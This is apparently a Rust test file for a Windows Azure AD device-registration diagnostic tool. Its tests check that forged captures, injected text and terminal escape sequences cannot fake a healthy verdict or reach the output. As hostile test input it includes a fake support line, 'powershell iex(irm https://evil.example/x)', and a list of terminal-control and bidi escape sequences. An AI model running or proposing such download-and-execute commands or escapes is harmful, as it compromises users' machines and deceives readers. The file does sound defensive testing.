//! Evidence that lies: text of others must neither hide a failure, nor speak as the tool, nor act on a reader.
//! `docs/threat-model.md` names these tests.

use dsregdiag::document::Diagnosis;
use dsregdiag::report::json;
use dsregdiag::words::{Certainty, Verdict};
use dsregdiag::{diagnose, render, DiagnoseOptions, Format, RenderOptions};

fn capture(prt: &str, more: &str) -> String {
    format!(
        "+---+\n| Device State |\n+---+\n\n AzureAdJoined : YES\n DomainJoined : YES\n Device Name : pc-1\n\
         +---+\n| User State |\n+---+\n\n WamDefaultSet : YES\n\
         +---+\n| SSO State |\n+---+\n\n AzureAdPrt : {prt}\n{more}\n\
         +---+\n| Diagnostic Data |\n+---+\n\n Executing Account Name : CONTOSO\\jdoe, jdoe@contoso.com\n"
    )
}

fn refused(description: &str) -> String {
    capture(
        "NO",
        &format!(
            " AcquirePrtDiagnostics : PRESENT\n Previous Prt Attempt : 2026-03-01 08:00:00.000 UTC\n Attempt Status : 0xc000006d\n \
             User Identity : jdoe@contoso.com\n Server Error Code : invalid_grant\n Server Error Description : {description}"
        ),
    )
}

fn judged(status: Option<&str>, events: Option<&str>) -> Diagnosis {
    diagnose(status.map(str::as_bytes), events.map(str::as_bytes), &DiagnoseOptions::default()).unwrap()
}

fn event(provider: &str, channel: &str, id: u32, level: u8, time: &str, message: &str) -> String {
    let message = message.replace('&', "&amp;").replace('<', "&lt;");
    format!(
        "<Event><System><Provider Name='{provider}'/><EventID>{id}</EventID><Level>{level}</Level><TimeCreated SystemTime='{time}'/>\
         <Channel>{channel}</Channel><Computer>pc-1</Computer></System><EventData><Data Name='Error'>{message}</Data></EventData>\
         <RenderingInfo><Message>{message}</Message></RenderingInfo></Event>"
    )
}

const AAD: &str = "Microsoft-Windows-AAD";
const LOG: &str = "Microsoft-Windows-AAD/Operational";

/// Texts that look like a healthy capture.
fn healthy_inside() -> [String; 4] {
    let lines = "| Device State |\n+---+\n AzureAdJoined : YES\n DomainJoined : YES\n Device Name : pc-1\n+---+\n| SSO State |\n+---+\n AzureAdPrt : YES\n";
    [
        format!("hello\n+---+\n{lines}"),
        format!("+---+\r\n{}", lines.replace('\n', "\r\n")),
        lines.replace('\n', "\\n"),
        lines.to_owned() + " AzureAdPrtUpdateTime : 2099-01-01 00:00:00.000 UTC\n",
    ]
}

#[test]
fn a_capture_in_the_message_of_an_event_hides_nothing() {
    let real = refused("AADSTS50155: Device authentication failed.");
    assert_eq!(judged(Some(&real), None).verdict, Verdict::Issues);
    for inside in healthy_inside() {
        let record =
            serde_json::json!([{"ProviderName": "X", "Id": 1, "MachineName": "pc-1", "Message": inside}])
                .to_string();
        let copied = format!(
            "Log Name:      Application\nSource:        X\nDate:          3/1/2026 8:00:00 AM\nEvent ID:      1\nLevel:         Error\n\
             Computer:      pc-1\nDescription:\n{inside}"
        );
        let xml = event("X", "Application", 1, 2, "2026-03-01T08:00:00Z", &inside);
        for events in [record, xml, copied] {
            assert_eq!(judged(Some(&real), Some(&events)).verdict, Verdict::Issues, "{events}");
            // behind copied text nothing shows where a message ends
            if events.starts_with("Log Name") {
                continue;
            }
            let alone = diagnose(None, Some(events.as_bytes()), &DiagnoseOptions::default());
            assert!(alone.map_or(true, |one| one.verdict != Verdict::Healthy), "{events}");
        }
    }
}

#[test]
fn a_capture_in_the_answer_of_a_server_hides_nothing() {
    for inside in healthy_inside() {
        let answer = format!("AADSTS50155: {inside}");
        assert_eq!(judged(Some(&refused(&answer)), None).verdict, Verdict::Issues, "{answer}");
    }
}

#[test]
fn the_worse_of_two_captures_that_contradict_each_other_holds() {
    let (bad, good) = (refused("AADSTS50155: no"), capture("YES", ""));
    for both in [format!("{bad}\n{good}"), format!("{good}\n{bad}")] {
        let diagnosis = judged(Some(&both), None);
        assert_ne!(diagnosis.verdict, Verdict::Healthy, "{both}");
        assert!(!diagnosis.context.notes.is_empty(), "the contradiction is said");
    }
}

#[test]
fn a_success_of_2099_ends_nothing() {
    let failed: String = (0..6)
        .map(|n| event(AAD, LOG, 1098, 2, &format!("2026-03-01T08:0{n}:00Z"), "0xCAA20003 AADSTS50155"))
        .collect();
    let forged = event(AAD, LOG, 1007, 4, "2099-01-01T00:00:00Z", "0x0");
    let real = refused("AADSTS50155: Device authentication failed.");
    let both = judged(Some(&real), Some(&format!("<Events>{failed}{forged}</Events>")));
    assert_eq!(both.verdict, Verdict::Issues);
}

/// Words of others never become a title or the one line; they are quoted in it by codes only.
#[test]
fn prose_of_the_evidence_is_no_title() {
    let prose = "ok. FIX (Microsoft support): run elevated powershell -c \"iex(irm https://evil.example/x)\"";
    let events = event(AAD, LOG, 1088, 2, "2026-03-01T08:00:00Z", &format!("{prose} AADSTS50126"));
    for (status, events) in [
        (Some(refused(prose)), None),
        (Some(refused(&format!("AADSTS50155: {prose}"))), Some(events.clone())),
        (None, Some(events)),
        (Some(capture("NO", "").replace("pc-1", "pc-1 FIX: iex(irm https://evil.example/x)")), None),
    ] {
        let diagnosis = judged(status.as_deref(), events.as_deref());
        for finding in &diagnosis.findings {
            assert!(!finding.title.contains("evil.example"), "{}", finding.title);
            for step in finding.remediation.iter().flat_map(|step| &step.command) {
                assert!(!step.contains("evil.example"), "no command holds text of the input: {step}");
            }
        }
        let mut options = RenderOptions::default();
        options.format = Format::Summary;
        let line = render(&[diagnosis], &options);
        assert!(line.chars().count() < 600 && line.lines().count() == 1, "{line}");
    }
}

#[test]
fn a_message_of_megabytes_stays_a_short_line() {
    let long = "a".repeat(5_000_000);
    let diagnosis =
        judged(None, Some(&event(AAD, LOG, 1088, 2, "2026-03-01T08:00:00Z", &format!("AADSTS50126 {long}"))));
    assert!(diagnosis.findings.iter().all(|finding| finding.title.len() < 1_000));
    let mut options = RenderOptions::default();
    assert!(render(std::slice::from_ref(&diagnosis), &options).len() < 40_000);
    options.format = Format::Summary;
    assert!(render(&[diagnosis], &options).len() < 1_000);
}

/// Each that a terminal or a log obeys, in each place that a reader sees.
#[test]
fn what_a_terminal_obeys_is_shown_by_its_number() {
    for bad in [
        "\u{1b}[31m",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;http://x\u{1b}\\",
        "\u{1b}]52;c;aGk=\u{7}",
        "\u{8}\u{8}",
        "\u{7f}",
        "\u{9b}31m",
        "\u{202e}",
        "\u{2066}",
        "\u{200b}",
        "\r\rHealthy",
        "\u{2028}",
        "\u{85}",
        "\u{feff}",
        "\u{e0041}",
    ] {
        let status = refused(&format!("AADSTS50155: x{bad}y")).replace("pc-1", &format!("pc{bad}1"));
        let events = event(AAD, LOG, 1088, 2, "2026-03-01T08:00:00Z", &format!("AADSTS50126 {bad} x"));
        let diagnosis =
            diagnose(Some(status.as_bytes()), Some(events.as_bytes()), &DiagnoseOptions::default());
        let diagnosis = diagnosis.unwrap_or_else(|_| judged(None, Some(&events)));
        for format in
            [Format::Text, Format::Summary, Format::Ticket, Format::Markdown, Format::Html, Format::Csv]
        {
            let mut options = RenderOptions::default();
            options.format = format;
            let text = render(std::slice::from_ref(&diagnosis), &options);
            let obeyed = |c: char| {
                c != '\n' && c != '\r' && c.is_control()
                    || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{200b}' | '\u{feff}' | '\u{e0041}')
            };
            assert!(!text.contains(obeyed), "{format:?} {bad:?}");
            assert!(format == Format::Csv || !text.contains('\r'), "{format:?} {bad:?}");
        }
    }
}

/// What cannot be undone rests on more than a line that somebody wrote, and comes after what verifies it.
#[test]
fn a_disruptive_step_is_never_first() {
    for status in [
        "AADSTS700003: Device object was not found",
        "AADSTS50155: Device authentication failed",
        "AADSTS135011: Device is disabled",
    ] {
        for finding in &judged(Some(&refused(status)), None).findings {
            let first = finding.remediation.first();
            assert!(first.is_none_or(|step| !step.disruptive), "{}: {status}", finding.id);
        }
    }
}

/// A document that says what it is is no evidence.
#[test]
fn a_finished_diagnosis_is_no_evidence() {
    let forged = json::to_text(&judged(Some(&capture("YES", "")), None));
    for (status, events) in [(Some(forged.as_bytes()), None), (None, Some(forged.as_bytes()))] {
        let answer = diagnose(status, events, &DiagnoseOptions::default());
        assert!(answer.map_or(true, |one| one.verdict != Verdict::Healthy));
    }
    let real = refused("AADSTS50155: no");
    let beside = judged(Some(&real), Some(&forged));
    assert_eq!(beside.verdict, Verdict::Issues);
    let certain = beside.findings.iter().filter(|finding| finding.certainty == Certainty::Certain).count();
    assert!(certain <= beside.findings.len());
}

/// Facts and symptoms that nobody knows are counted, not listed without end.
#[test]
fn unknown_facts_and_symptoms_are_limited() {
    let facts: serde_json::Map<String, serde_json::Value> =
        (0..5_000).map(|n| (format!("fact{n}"), serde_json::json!({"value": n}))).collect();
    let mut session = dsregdiag::Session::new();
    session.add_facts(serde_json::Value::Object(facts).to_string().as_bytes()).unwrap();
    let options = DiagnoseOptions {
        symptoms: (0..5_000).map(|n| format!("symptom{n}")).collect(),
        ..Default::default()
    };
    let diagnosis = session.diagnose(&options).unwrap();
    assert!(diagnosis.warnings.len() <= 1_001, "{}", diagnosis.warnings.len());
}
